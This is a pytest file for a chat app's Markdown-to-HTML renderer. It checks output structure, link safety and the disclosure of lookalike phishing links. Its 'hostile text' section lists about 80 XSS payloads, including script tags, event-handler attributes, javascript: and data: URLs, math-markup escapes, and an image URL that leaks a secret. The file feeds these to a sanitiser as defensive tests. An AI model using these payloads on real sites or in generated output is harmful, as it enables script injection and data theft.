"""HTML of Markdown: what each construct becomes, what nothing ever becomes, and that no text is lost."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.markdown.blocks import _md
from chat.markdown.stream import MarkdownStream, _cache, render
from tests.outline import Outline, assert_harmless


@pytest.fixture(autouse=True)
def _nothing_is_cached():
    yield
    _cache.clear()


def test_headings_stand_below_those_of_the_page():
    assert Outline(render("# a\n\n## b\n\n### c\n\n#### d\n\n###### e")).tags == ["h3", "h4", "h5", "h6", "h6"]


def test_top_level_blocks_find_their_own_direction_and_code_reads_from_left_to_right():
    outline = Outline(render("שלום `x`\n\n- a\n\n> b\n\n1. c\n\n# d\n\n```\ne\n```\n\n|f|\n|-|\n"))
    directions = [(tag, value) for tag, name, value in outline.attributes if name == "dir"]
    assert directions == [
        ("p", "auto"), ("code", "ltr"), ("ul", "auto"), ("blockquote", "auto"), ("ol", "auto"), ("h3", "auto"),
        ("figure", "ltr"), ("div", "auto"),
    ]  # fmt: skip


def test_a_code_block_is_a_figure_with_its_language_and_coloured_tokens():
    markup = render('```python title="x"\n\nx = "<b>"  # 1\n\n```')
    assert markup.startswith(
        '<figure class="code" dir="ltr"><figcaption>python</figcaption><pre tabindex="0">'
        '<code>\n<span class="n">x</span> <span class="o">=</span>'
    )
    assert Outline(markup).text == 'python\nx = "<b>"  # 1\n\n'


@pytest.mark.parametrize("info", ["", "nosuchlanguage", "c++ {1,3}", "<script>", "&quot;", "\\", "../../etc", "🙂"])
def test_a_code_block_of_any_language_shows_its_code(info):
    outline = Outline(render(f"```{info}\na < b\n```"))
    assert outline.text.endswith("a < b\n")
    assert outline.tags[:4] == ["figure", "figcaption", "pre", "code"]


def test_a_table_has_a_scroll_box_and_aligns_without_style():
    outline = Outline(render("| a | b | c |\n|:--|--:|---|\n| 1 | 2 | 3 |"))
    assert outline.attributes[:3] == [("div", "class", "table"), ("div", "tabindex", "0"), ("div", "dir", "auto")]
    assert [attribute for attribute in outline.attributes if attribute[1] == "align"] == [
        ("th", "align", "left"), ("th", "align", "right"), ("td", "align", "left"), ("td", "align", "right"),
    ]  # fmt: skip


def test_a_task_has_a_labelled_box():
    assert render("- [x] done *now*\n- [ ] open") == (
        '<ul dir="auto">\n'
        '<li class="task"><label><input type="checkbox" disabled="" checked=""> done <em>now</em></label></li>\n'
        '<li class="task"><label><input type="checkbox" disabled=""> open</label></li>\n</ul>'
    )


def test_a_task_that_begins_with_code_leaves_the_next_one_its_box():
    assert Outline(render("- [x] ```\n  a\n  ```\n- [ ] b")).tags.count("label") == 1


def test_strikethrough_and_links_in_plain_text_are_understood():
    markup = render("~~old~~ https://e.org/a_b_c, <https://f.org> and x@y.org")
    hrefs = [value for _, name, value in Outline(markup).attributes if name == "href"]
    assert "<s>old</s>" in markup
    assert hrefs == ["https://e.org/a_b_c", "https://f.org", "mailto:x@y.org"]


@pytest.mark.parametrize("name", ["main.py", "README.md", "//c.de", "ftp://a.b", "1.2.3.4", "e.g.", "node.js"])
def test_a_file_name_is_no_link(name):
    assert "a" not in Outline(render(f"See {name} there.")).tags


def test_links_open_elsewhere_and_tell_nothing():
    assert render("[x](HTTPS://e.org 'title')") == (
        '<p dir="auto"><a href="HTTPS://e.org" target="_blank" rel="noopener noreferrer nofollow">x</a></p>'
    )


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "/admin/", "#top", "data:text/html,x", "ftp://a", "file:///etc"]
)
def test_of_another_link_the_label_stays(url):
    assert render(f"a [label]({url}) b") == '<p dir="auto">a label b</p>'


def test_a_picture_becomes_a_link_to_it_and_inside_a_link_its_text():
    link = '<a href="{}" target="_blank" rel="noopener noreferrer nofollow">{}</a>'
    shown = render("![alt](http://e.org/p.png) [![in](http://e.org/p.png)](https://f.org) ![none](data:image/png;x)")
    assert (
        shown
        == f'<p dir="auto">{link.format("http://e.org/p.png", "alt")} {link.format("https://f.org", "in")} none</p>'
    )


def test_a_link_without_a_label_shows_its_address():
    assert Outline(render("[](https://e.org) ![](https://f.org)")).text == "https://e.org https://f.org"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[bank.test](https://evil.test)", "bank.test (evil.test)"),
        ("[https://bank.test/sign-in](https://evil.test/y)", "https://bank.test/sign-in (evil.test)"),
        ("[**www.bank.test**](https://evil.test)", "www.bank.test (evil.test)"),
        ("[https://bank.test@evil.test](https://evil.test)", "https://bank.test@evil.test (evil.test)"),
        ("<https://bank.test@evil.test/>", "https://bank.test@evil.test/ (evil.test)"),
        ("[the bank](https://bank.test@evil.test)", "the bank (evil.test)"),
        ("[x@bank.test](mailto:x@evil.test)", "x@bank.test (x@evil.test)"),
        ("[x@bank.test](mailto:x@bank.test?bcc=y@evil.test)", "x@bank.test (x@bank.test, y@evil.test)"),
        ("[evil.test → bank.test](https://evil.test)", "evil.test → bank.test (evil.test)"),
        ("[ba\u200bnk.te\u00adst](https://evil.test)", "ba\u200bnk.te\u00adst (evil.test)"),
        ("[\u202etset.knab](https://evil.test)", "\u202etset.knab (evil.test)"),
        ("[\u2066the bank\u2069](https://evil.test)", "\u2066the bank\u2069 (evil.test)"),
        ("[bank．test](https://evil.test)", "bank．test (evil.test)"),
        ("[bank。test](https://evil.test)", "bank。test (evil.test)"),
        ("[𝐛𝐚𝐧𝐤․𝐭𝐞𝐬𝐭](https://evil.test)", "𝐛𝐚𝐧𝐤․𝐭𝐞𝐬𝐭 (evil.test)"),
        ("[bank%2etest](https://evil.test)", "bank%2etest (evil.test)"),
        ("[https://bank.test](https://%65vil.test)", "https://bank.test (evil.test)"),
        ("[10.0.0.1](https://evil.test)", "10.0.0.1 (evil.test)"),
        ("[localhost:80](https://evil.test)", "localhost:80 (evil.test)"),
        ("[https://bank](https://evil.test)", "https://bank (evil.test)"),
        ("[bank.test.](https://bank.test:8443)", "bank.test."),
        ("[Python 3.11.7, e.g. @anna](https://e.org)", "Python 3.11.7, e.g. @anna"),
        ("https://e.org/a.b//c.d?x=a@b.test#e.f", "https://e.org/a.b//c.d?x=a@b.test#e.f"),
        ("[first.last@e.org](mailto:first.last@e.org?subject=a.b)", "first.last@e.org"),
        ("![https://bank.test](https://evil.test/p.png)", "https://bank.test (evil.test)"),
        ("[bank.test](https://bank.test.evil.test)", "bank.test (bank.test.evil.test)"),
        ("[bаnk.test](https://bаnk.test)", "bаnk.test (xn--bnk-6cd.test)"),
        ("[www.bank.test](https://bank.test)", "www.bank.test"),
        ("[the docs](https://e.org)", "the docs"),
        ("[bank .com](https://evil.test)", "bank .com (evil.test)"),
        ("[bank\u00a0\u2003. com](https://evil.test)", "bank\u00a0\u2003. com (evil.test)"),
        ("[bank. com/sign-in](https://evil.test)", "bank. com/sign-in (evil.test)"),
        ("[bank\u200b .\u2060co .\t uk](https://evil.test)", "bank\u200b .\u2060co .\t uk (evil.test)"),
        ("[bank\u3000．com](https://evil.test)", "bank\u3000．com (evil.test)"),
        ("[bank.\u2800com](https://evil.test)", "bank.\u2800com (evil.test)"),
        ("[Bank .Com](https://bank.com)", "Bank .Com"),
        (
            "[It ends. It is so. Come in, e. g. now ... to](https://e.org)",
            "It ends. It is so. Come in, e. g. now ... to",
        ),
        ("https://e.org/a and x@y.org", "https://e.org/a and x@y.org"),
    ],
)
def test_a_link_whose_text_looks_like_another_address_shows_where_it_leads(text, shown):
    assert Outline(render(text)).text == shown


def test_what_is_told_of_a_link_stands_apart_from_characters_that_turn_its_text():
    assert ' <span dir="ltr">(evil.test)</span></a>' in render("[\u202etset.knab](https://evil.test)")


# -- hostile text -----------------------------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.org></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:1'>x</mi></math>",
    "<iframe src=https://e.org></iframe>",
    "<object data=x>",
    "<embed src=x>",
    "<base href=//e.org>",
    "<link rel=stylesheet href=//e.org>",
    "<meta http-equiv=refresh content='0;url=//e.org'>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed'>x</div>",
    "<a href=javascript:1>x</a>",
    "<form action=//e.org><button formaction=javascript:1>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<template><script>1</script></template>",
    "<p id=x class=y>z</p>",
    "<x" + "\x00" + " onclick=1>",
    "</code></pre></figure><script>1</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//e.org)",
    "[x](/logout/)",
    "[x](https://e.org/\" onclick=\"alert(1))",
    "[x](https://e.org 'a\" onclick=\"alert(1)')",
    "[x](<https://e.org/ onclick=alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: data:text/html,x 'onclick=1'",
    "<javascript:alert(1)>",
    "<https://e.org/\"onclick=alert(1)>",
    "https://e.org/\"onclick=alert(1)",
    "https://e.org/<script>alert(1)</script>",
    "javascript://e.org/%0aalert(1)",
    "![x](https://e.org/leak?q=secret)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://e.org/p.png)",
    "![x](data:image/svg+xml,<svg onload=1>)",
    "![x][r]\n\n[r]: https://e.org/leak.png",
    "```<script>\n</code><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onclick=alert(1)\nx\n```",
    "```python\n'''</code></pre><img src=x onerror=1>'''\n```",
    "~~~' class='x\n<b>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "| <img src=x onerror=1> |\n|:-:|\n| <script>1</script> |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}\\class{y}{z}\\cssId{a}{b}$",
    "$\\text{<style><img src=x onerror=1>}$",
    "$\\text{&lt;img src=x onerror=1&gt;}$",
    "$$\n<script>alert(1)</script>\n$$",
    "$$\\frac{<img src=x onerror=1>}$$",
    "\\[<img src=x onerror=alert(1)>\\]",
    "$\\color{red;background:url(//e.org)}{x}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "**<b onmouseover=alert(1)>**",
    "[<img src=x onerror=1>](https://e.org)",
    "$$ <img src=x onerror=1>",
    "\\(<img src=x onerror=1>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "1. {}", "text {} text", "**{}", "[{}](https://e.org)"])
def test_hostile_text_makes_no_hostile_html(payload, frame):
    text = frame.format(payload)
    assert_harmless(render(text))
    stream = MarkdownStream()
    for at in range(0, len(text), 5):
        stream.feed(text[at : at + 5])
        assert_harmless("".join(stream.blocks))


def test_the_table_of_payloads_would_catch_something():
    with pytest.raises(AssertionError):
        assert_harmless('<p onclick="1">x</p>')
    with pytest.raises(AssertionError):
        assert_harmless('<a href="javascript:1">x</a>')
    with pytest.raises(AssertionError):
        assert_harmless('<img src="x">')
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_html_in_the_text_is_text(payload):
    assert payload in Outline(render(f"a {payload} b")).text


# -- whatever the text ------------------------------------------------------------------------------------------------


def test_nothing_is_lost_of_a_text_that_is_too_deep_or_too_long():
    assert Outline(render("> " * 100 + "deep")).text.endswith("deep")
    assert Outline(render("x " * 8_000 + "long")).text.endswith("long")
    text = "line\n" * 60_000
    assert Outline(render(text)).text.replace("\n", "") == text.replace("\n", "")


def test_a_parser_that_fails_leaves_the_text(monkeypatch):
    monkeypatch.setattr(_md.block, "parse", lambda *args: 1 / 0)
    assert render("a <b> *c*") == '<p class="plain" dir="auto">a &lt;b&gt; *c*</p>'


def test_a_renderer_that_fails_leaves_the_text_of_the_block(monkeypatch):
    monkeypatch.setattr(_md.core, "process", lambda state: 1 / 0)
    assert render("a\n\n*b*") == '<p class="plain" dir="auto">a</p><p class="plain" dir="auto">*b*</p>'


@settings(derandomize=True, deadline=None, max_examples=150)
@given(st.text(max_size=300))
def test_any_text_is_rendered(text):
    assert_harmless(render(text))
